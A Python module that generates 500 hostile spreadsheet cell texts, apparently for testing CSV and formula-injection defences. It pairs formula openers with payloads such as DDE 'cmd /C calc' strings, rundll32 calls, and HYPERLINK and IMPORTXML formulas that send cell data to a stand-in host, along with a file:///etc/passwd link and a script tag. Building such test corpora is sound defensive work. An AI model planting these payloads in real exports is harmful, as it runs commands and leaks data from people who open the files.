"""500 cell texts that spreadsheets have been made to run, or that break tables."""

from __future__ import annotations

from itertools import product

_OPENERS = (
    "=",
    "+",
    "-",
    "\u2212",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "  +",
    "'=",
    "''=",
    "\uff1d",
    "\uff0b",
    "\uff20",
    "=-",
    "+=",
    "-+",
    "@=",
    "\u00a0=",
)
_PAYLOADS = (
    "1+1",
    "2+5+cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?"&A1,"Error")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'WEBSERVICE("http://example.org")',
    "SUM(1,2)*cmd|'/C calc'!A1",
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'IMAGE("http://example.org/x.png")',
    "A1",
    "100",
    "10%",
    "(1)",
    "x;y;z",
    'a","b',
    "a\nb",
    "a\tb",
    "SUM(A:A)",
    "'quoted'",
    "<script>alert(1)</script>",
    "{=1}",
    "_xlfn.X()",
    "0x1F",
)
_OTHERS = (
    "", " ", "'", "''", '"', '""', "\t", "\r", "\n", "\r\n", ";", ",", "|", "=", "+", "-", "@", "\u2212", "%", "{=1+1}",
    "http://example.org", "mailto:a@example.org", "file:///etc/passwd", "internal:A1", "www.example.org",
    "[x](javascript:1)",
    "<b>x</b>", "&amp;", "]]>", "<!--", "\x00", "\x07", "\x1b[0m", "\ufeff", "\u202e",
    "_x0041_", "#REF!", "TRUE", "1e5", "00123",
)  # fmt: skip

HOSTILE = tuple(opener + payload for opener, payload in product(_OPENERS, _PAYLOADS)) + _OTHERS
